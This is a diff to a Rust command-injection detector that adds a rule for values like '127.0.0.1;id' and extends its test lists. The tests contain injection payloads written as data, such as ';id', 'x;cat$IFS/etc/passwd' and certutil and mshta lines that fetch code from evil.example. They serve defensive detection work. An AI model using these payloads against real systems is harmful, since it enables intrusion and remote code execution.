@@ -579,6 +579,9 @@ fn find_command(folded: &[u8]) -> Option<usize> {
         };
         let separator = match separator {
             Separator::Pipe if word_list => Separator::Loose,
+            // Nothing but an address or a number before it (`;id`, `127.0.0.1;id`): the value
+            // was cut for a command, not written as prose.
+            Separator::Loose if is_address_or_empty(&folded[..i]) => Separator::Pipe,
             other => other,
         };
         if let Some(cmd) = command_at(folded, after, separator) {
@@ -682,6 +685,13 @@ fn numeric_argument(tail: &[u8]) -> bool {
         return false;
     }
     tail[i..i + len].contains(&b'.') || ends_command(&tail[i + len..])
+}
+
+/// True when `s` is blank, or a number or an IP address (digits, `.` and `:`) after blanks.
+fn is_address_or_empty(s: &[u8]) -> bool {
+    s.trim_ascii()
+        .iter()
+        .all(|&b| b.is_ascii_digit() || b == b'.' || b == b':')
 }
 
 /// True when `value` is plain words joined by pipes (`name|id|email`, `rock | pop`), a word
@@ -801,6 +811,9 @@ mod tests {
             "; kill -9 1",
             ";mshta http://evil.example/x.hta",
             ";echo${IFS}vulnerable",
+            ";id",
+            "127.0.0.1;id",
+            "& ls",
             "x;cat$IFS/etc/passwd",
             "| certutil -urlcache -split -f http://evil.example/x.exe",
             "& rundll32 shell32.dll,Control_RunDLL",
@@ -840,6 +853,8 @@ mod tests {
             "net income; net loss",
             "template ${name} and ${count}",
             "price: $ifsc; code $IFSC",
+            "Name: John; id",
+            "a.b; cat",
             "name|id|email",
             "email|id",
             "Name: John; ID 12345",
